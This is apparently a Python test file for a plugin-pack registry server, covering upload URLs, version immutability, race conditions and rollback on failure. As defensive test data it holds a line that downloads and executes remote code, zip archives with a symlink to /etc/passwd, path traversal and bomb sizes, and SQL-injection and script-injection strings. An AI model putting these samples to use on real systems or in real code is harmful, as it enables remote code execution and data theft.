"""Publishing: announced and uploaded, or at once."""

from __future__ import annotations

import io
import json
import stat
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from urllib.parse import quote

import pytest
from sqlalchemy import text
from sqlalchemy.orm import Session

from registry_server.accounts.identity import Scope
from registry_server.errors import Unavailable
from registry_server.packs import repository as packs
from registry_server.settings import Settings
from sdk.authoring.scaffold import licence_text
from tests.support import postgres
from tests.support.registry import Registry, bearer, registry
from tests.support.registry_packs import manifest, nodes_module, pack, zipped


def stored(server: Registry) -> list[str]:
    return list(server.parts.storage.keys("archives/"))


def test_an_announced_version_is_published_by_the_upload_and_nothing_else(server: Registry) -> None:
    answer = server.announce()
    assert answer.status_code == 201
    version = answer.json()["node_version"]
    assert (version["version"], version["changelog"]) == ("1.0.0", "my change")
    assert server.client.get("/nodes/probe-pack").status_code == 404
    archive = pack()
    assert server.put(answer.json()["signedUrl"], archive).status_code == 200
    node = server.client.get("/nodes/probe-pack").json()
    assert node["latest_version"]["id"] == version["id"]
    assert node["latest_version"]["changelog"] == "my change"
    assert server.client.get(node["latest_version"]["downloadUrl"]).content == archive


def test_a_version_whose_archive_never_came_is_invisible_and_can_be_published_again(server: Registry) -> None:
    server.publish(version="1.0.0")
    first = server.announce(version="1.1.0").json()["signedUrl"]
    for address in ("/nodes/probe-pack/install?version=1.1.0", "/nodes/probe-pack/versions/1.1.0"):
        assert server.client.get(address).status_code == 404
    assert server.client.get("/nodes/probe-pack/install").json()["version"] == "1.0.0"
    second = server.announce(version="1.1.0")
    assert second.status_code == 201
    assert server.put(second.json()["signedUrl"], pack(version="1.1.0")).status_code == 200
    late = server.put(first, pack(version="1.1.0", salt=9))
    assert (late.status_code, late.json()["message"]) == (400, "The node version already exists")


def test_an_upload_address_works_once_for_a_while_and_only_unforged(server: Registry) -> None:
    address = server.announce().json()["signedUrl"]
    assert server.put(address.replace("signature=", "signature=0"), pack()).status_code == 403
    assert server.put(address.replace("expires=1", "expires=2"), pack()).status_code == 403
    assert server.put(address, pack()).status_code == 200
    assert server.put(address, pack()).status_code == 403
    expired = server.announce(version="2.0.0").json()["signedUrl"]
    server.clock.pass_by(server.parts.settings.upload_seconds + 1)
    answer = server.put(expired, pack(version="2.0.0"))
    assert answer.status_code == 403
    assert "expired" in answer.json()["message"]


def test_the_archive_must_be_the_announced_version(server: Registry) -> None:
    address = server.announce(version="1.0.0").json()["signedUrl"]
    answer = server.put(address, pack("other-pack", "1.0.1"))
    assert answer.status_code == 400
    assert len(answer.json()["details"]) == 2
    assert stored(server) == []
    assert server.put(address, pack()).status_code == 200, "a refused archive does not use the address up"


def test_a_version_never_changes(server: Registry) -> None:
    server.publish()
    for archive in (pack(), pack(salt=8), pack(version="1.0"), pack(version="1.0.0.0")):
        answer = server.upload(archive)
        assert (answer.status_code, answer.json()["error"]) == (400, "VERSION_EXISTS")
    assert server.announce().json()["message"] == "The node version already exists"
    assert len(stored(server)) == 1


def test_of_two_publishes_at_once_one_wins(server: Registry) -> None:
    server.publish("another-pack", nodes=["Another"])
    token = server.publisher()
    archives = [pack(salt=salt) for salt in range(10, 16)]
    with ThreadPoolExecutor(6) as pool:
        answers = list(pool.map(lambda archive: server.upload(archive, token), archives))
    assert sorted(answer.status_code for answer in answers) == [201, 400, 400, 400, 400, 400]
    won = next(answer.json() for answer in answers if answer.status_code == 201)
    losers = {answer.json()["message"] for answer in answers if answer.status_code != 201}
    assert losers == {"The node version already exists"}
    assert len(stored(server)) == 2
    assert server.client.get("/index/config.json").json()["serial"] == 2
    document = server.client.get("/api/v1/packs/probe-pack").json()
    assert [release["sha256"] for release in document["releases"]] == [won["sha256"]]


def test_what_the_manifest_asks_for_can_be_read_without_the_archive(server: Registry) -> None:
    server.publish(dependencies=["numpy>=2", "rich"], packs=["other>=1"])
    release = server.client.get("/api/v1/packs/probe-pack").json()["releases"][0]
    expected = {
        "dependencies": ["numpy>=2", "rich"],
        "packs": ["other>=1"],
        "requires_python": ">=3.10",
        "requires_comfyui": ">=0.3.0",
        "systems": ["OS Independent"],
        "accelerators": ["GPU :: NVIDIA CUDA"],
        "permissions": ["network"],
    }
    assert {key: release[key] for key in expected} == expected


def test_requirements_come_from_their_file_where_the_manifest_names_none(server: Registry) -> None:
    listing = "# needed\nrich>=13\n--extra-index-url https://example.com\nnumpy # any\n"
    done = server.upload(pack(files={"requirements.txt": listing})).json()
    release = server.client.get(f"/api/v1/packs/{done['id']}").json()["releases"][0]
    assert release["dependencies"] == ["rich>=13", "numpy"]


def test_a_core_package_pinned_against_the_host_is_an_error(server: Registry) -> None:
    answer = server.upload(pack(dependencies=["torch==1.13.0"]))
    assert answer.status_code == 400
    assert "CN130" in answer.json()["details"][0]
    assert stored(server) == []


def test_grave_findings_put_a_version_into_quarantine(server: Registry) -> None:
    bad = 'import urllib.request\nexec(urllib.request.urlopen("https://example.com/x").read())\n'
    done = server.upload(pack(files={"evil.py": bad})).json()
    assert done["state"] == "quarantined"
    assert done["findings"][0]["severity"] == "high"
    assert done["findings"][0]["file"] == "evil.py"
    assert "operator" in done["reason"], "it says how to appeal"
    assert server.client.get("/nodes/probe-pack/install").status_code == 404
    flagged = server.client.get("/nodes/probe-pack/install?version=1.0.0").json()
    assert flagged["status"] == "NodeVersionStatusFlagged"
    assert "downloadUrl" not in flagged
    assert server.client.get("/downloads/probe-pack/1.0.0/node.zip").status_code == 403
    assert server.client.get(done["url"]).status_code == 403
    release = server.client.get("/api/v1/packs/probe-pack").json()["releases"][0]
    assert (release["state"], release["reason"]) == ("quarantined", done["reason"])


def test_grave_findings_cannot_be_explained_away(server: Registry) -> None:
    line = 'exec(urllib.request.urlopen("https://example.com/x").read())  # comfy-nodes: ignore[{}] it is our own'
    plain = "import urllib.request\n" + line.format("CN000") + "\n"
    findings = server.upload(pack("first-pack", nodes=["A"], files={"x.py": plain})).json()["findings"]
    excused = "import urllib.request\n" + line.format(", ".join(one["id"] for one in findings)) + "\n"
    done = server.upload(pack("second-pack", nodes=["B"], files={"x.py": excused})).json()
    assert done["state"] == "quarantined"


@pytest.mark.parametrize(
    ("token", "status"),
    [("cnr_nonsense", 401), ("", 401)],
)
def test_a_wrong_token_publishes_nothing(server: Registry, token: str, status: int) -> None:
    answer = server.client.post("/api/v1/packs/upload", content=pack(), headers=bearer(token) if token else {})
    assert answer.status_code == status
    assert answer.headers["www-authenticate"] == "Bearer"


def test_only_its_publisher_publishes_a_pack(server: Registry) -> None:
    server.publish()
    other = server.publisher("other")
    assert server.upload(pack(version="2.0.0"), other).status_code == 403
    assert server.upload(pack(version="2.0.0", publisher="other"), other).status_code == 403
    assert server.announce(version="2.0.0", token=other).status_code == 403
    assert server.announce(version="2.0.0", token="cnr_wrong").status_code == 403
    assert server.announce(version="2.0.0", publisher="nobody", token=server.publisher()).status_code == 403
    manager = server.publisher("acme", Scope.MANAGE)
    assert server.upload(pack(version="2.0.0"), manager).status_code == 403


def test_names_that_look_the_same_are_one_pack(server: Registry) -> None:
    server.publish("Probe_Pack")
    other = server.publisher("other")
    for name in ("probe-pack", "PROBE.PACK", "probe__pack"):
        answer = server.upload(pack(name, "2.0.0", nodes=["Other"], publisher="other"), other)
        assert answer.status_code == 403, name
    lookalike = server.upload(pack("pr\N{CYRILLIC SMALL LETTER O}be-pack", nodes=["X"]))
    assert lookalike.status_code == 400


def linked() -> bytes:
    """A zip in which a file is a link out of the pack."""
    buffer = io.BytesIO(pack())
    with zipfile.ZipFile(buffer, "a") as archive:
        link = zipfile.ZipInfo("passwords")
        link.create_system, link.external_attr = 3, (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
    return buffer.getvalue()


def forged() -> bytes:
    """A zip whose directory says of a file of ten MiB that it has ten bytes."""
    archive = zipped({"pyproject.toml": manifest(), "zeros": b"\0" * (10 << 20)})
    return archive.replace((10 << 20).to_bytes(4, "little"), (10).to_bytes(4, "little"))


def encrypted() -> bytes:
    """A zip whose first file says that it is encrypted."""
    archive = bytearray(pack())
    archive[6] |= 1
    archive[archive.index(b"PK\1\2") + 8] |= 1
    return bytes(archive)


def titled(expression: str) -> bytes:
    """A pack with a node of this title."""
    code = f"{nodes_module(['A'])}NODE_DISPLAY_NAME_MAPPINGS = {{'A': {expression}}}\n"
    return zipped({"pyproject.toml": manifest(), "__init__.py": code})


HOSTILE = {
    "a link": linked(),
    "forged sizes": forged(),
    "encrypted": encrypted(),
    "no zip": b"PK nothing",
    "cut off": pack()[:-40],
    "empty": zipped({}),
    "no manifest": zipped({"__init__.py": ""}),
    "manifest of wrong types": zipped({"pyproject.toml": "[project]\nname = 3\nversion = []\n"}),
    "manifest no toml": zipped({"pyproject.toml": "[project\n"}),
    "traversal": zipped({"pyproject.toml": manifest(), "../evil.py": "x"}),
    "absolute": zipped({"pyproject.toml": manifest(), "/etc/evil": "x"}),
    "same name in another case": zipped({"pyproject.toml": manifest(), "a.py": "", "A.py": ""}),
    "bomb": zipped({"pyproject.toml": manifest(), "zeros": b"\0" * (40 << 20)}),
    "no version": zipped({"pyproject.toml": '[project]\nname = "x"\n'}),
    "node id with a line break": zipped({"pyproject.toml": manifest(), "__init__.py": nodes_module(["a\nb"])}),
    "node id without end": zipped({"pyproject.toml": manifest(), "__init__.py": nodes_module(["x" * 5000])}),
    "version with a blank": pack(version=" 1.0.0"),
    "version with a line break": pack(version="1.0.0\\n"),
    "version of many digits": pack(version="1." + "9" * 5000),
    "version without end": pack(version="1.0.0+" + "a" * 300),
    "range of many digits": zipped({"pyproject.toml": manifest().replace(">=3.10", ">=3." + "1" * 5000)}),
    "requirement of many digits": pack(dependencies=["a>=1." + "1" * 5000]),
    "marker of many digits": pack(dependencies=["a; python_version > '3." + "1" * 5000 + "'"]),
    "marker that compares nothing": pack(dependencies=["a; os_name ~= '3'"]),
    "NUL in a text": zipped({"pyproject.toml": manifest().replace("A pack for probing", "a\\u0000b")}),
    "many permissions": zipped({"pyproject.toml": manifest().replace('"network"', '"x",' * 1001)}),
    "many requirements": zipped({"pyproject.toml": manifest(), "requirements.txt": "a\n" * 1001}),
    "licence without end": zipped({"pyproject.toml": manifest().replace('"MIT"', f"{{text = '{'x' * 20_001}'}}")}),
    "half a character in an id": zipped({"pyproject.toml": manifest(), "__init__.py": nodes_module(["\ud800"])}),
    "turned node id": zipped({"pyproject.toml": manifest(), "__init__.py": nodes_module(["a\u202eb"])}),
    "half a character in a title": titled("'\\ud800'"),
    "NUL in a title": titled("'\\0'"),
    "title without end": titled("'x' * 2001"),
    "name of the host": pack("core"),
    "name like the host's": pack("C-0-r-e"),
    "name of an address": pack("search"),
    "name of a device": pack("aux.tools"),
    "long description": zipped({"pyproject.toml": manifest().replace("A pack for probing", "x" * 1001)}),
}


@pytest.mark.parametrize("archive", HOSTILE.values(), ids=HOSTILE)
def test_bad_archives_are_refused_and_leave_nothing(server: Registry, archive: bytes) -> None:
    answer = server.upload(archive)
    assert answer.status_code == 400, answer.text
    assert answer.json()["message"]
    assert stored(server) == []
    assert list(server.parts.settings.incoming.iterdir()) == []
    assert server.client.get("/nodes").json()["total"] == 0


@pytest.mark.parametrize(
    ("text", "said", "shown"),
    [
        (licence_text("Ada", 2026), {"file": "LICENSE", "text": "MIT"}, "MIT"),
        (b"Ask me.", {"file": "LICENSE"}, "see LICENSE"),
    ],
)
def test_a_licence_in_a_file_is_shown_by_its_name(
    server: Registry, text: bytes, said: dict[str, str], shown: str
) -> None:
    named = manifest().replace('license = "MIT"', 'license = {file = "LICENSE"}')
    server.upload(pack(files={"pyproject.toml": named, "LICENSE": text}))
    assert json.loads(server.client.get("/nodes/probe-pack").json()["license"]) == said
    assert server.client.get("/api/v1/packs/probe-pack").json()["license"] == shown
    assert f">{shown}</dd>" in server.client.get("/pack/probe-pack").text


def test_texts_of_all_kinds_are_kept_as_they_are(server: Registry) -> None:
    nasty = "Robert'); DROP TABLE packs;-- <script>alert(1)</script> \N{GRINNING FACE}"
    texts = manifest().replace("A pack for probing", nasty).replace('"Probe Pack"', f'"{nasty}"')
    texts = texts.replace('license = "MIT"', f'license = {{text = "{nasty}"}}')
    texts = texts.replace("https://example.com/probe-pack", f"https://example.com/{nasty}")
    archive = zipped(
        {"pyproject.toml": texts, "__init__.py": nodes_module([nasty]), "README.md": "\0" + f"{nasty}\n" * 10**4}
    )
    answer = server.upload(archive, **{"X-Changelog": quote(nasty)})
    assert answer.status_code == 201, answer.text
    shown = server.client.get("/nodes/probe-pack").json()
    assert (shown["description"], shown["name"]) == (nasty, nasty)
    assert json.loads(shown["license"]) == {"text": nasty}
    version = server.client.get("/api/v1/packs/probe-pack/versions/1.0.0").json()
    assert (version["changelog"], version["nodes"][0]["id"]) == (nasty, nasty)
    assert len(version["readme"]) <= 200_000
    assert server.client.get(f"/api/v1/nodes/{quote(nasty, safe='')}").json()["owner"] == "probe-pack"
    assert server.client.get("/nodes/search", params={"search": nasty}).json()["total"] == 1


@pytest.fixture
def on_postgres(postgres_address: str, postgres_template: str, tmp_path: Path) -> Iterator[Registry]:
    """A registry whose database is a server of its own, which can go away."""
    address = postgres.new_database(postgres_address, postgres_template)
    with registry(Settings(data=tmp_path / "data", database_url=address, writes_per_minute=0)) as found:
        yield found


def test_a_database_that_goes_away_in_mid_publish_leaves_nothing_visible(
    on_postgres: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    server = on_postgres

    def go_away(session: Session, _pack: object) -> None:
        session.execute(text("SELECT pg_terminate_backend(pg_backend_pid())"))

    token = server.publisher()
    with monkeypatch.context() as patched:
        patched.setattr(packs, "put_labels", go_away)  # one of the last steps of the transaction
        assert server.upload(pack(), token).status_code == 503
    assert stored(server) == []
    assert server.client.get("/nodes").json()["total"] == 0
    assert server.upload(pack(), token).status_code == 201


def test_a_database_that_fails_in_mid_publish_leaves_nothing_visible(
    server: Registry, monkeypatch: pytest.MonkeyPatch
) -> None:
    def fail(*_arguments: object, **_fields: object) -> None:
        raise Unavailable("the database went away")

    token = server.publisher()
    with monkeypatch.context() as patched:
        patched.setattr(packs, "put_labels", fail)  # one of the last steps of the transaction
        assert server.upload(pack(), token).status_code == 503
    assert stored(server) == []
    assert server.client.get("/nodes").json()["total"] == 0
    assert server.client.get("/index/config.json").json()["serial"] == 0
    assert server.client.get("/api/v1/nodes/ProbeNode").status_code == 404
    assert server.upload(pack(), token).status_code == 201


def test_a_storage_that_is_full_leaves_nothing_visible(server: Registry, monkeypatch: pytest.MonkeyPatch) -> None:
    def full(key: str, source: object) -> None:
        raise Unavailable("no space left on device")

    token = server.publisher()
    with monkeypatch.context() as patched:
        patched.setattr(server.parts.storage, "put", full)
        assert server.upload(pack(), token).status_code == 503
    assert server.client.get("/nodes").json()["total"] == 0
    assert server.upload(pack(), token).status_code == 201


def test_an_older_version_published_later_does_not_become_the_latest(server: Registry) -> None:
    server.publish(version="2.0.0", nodes=["New"])
    server.publish(version="1.0.0", nodes=["Old"])
    server.publish(version="3.0.0-beta", nodes=["Beta"])
    assert server.client.get("/nodes/probe-pack").json()["latest_version"]["version"] == "2.0.0"
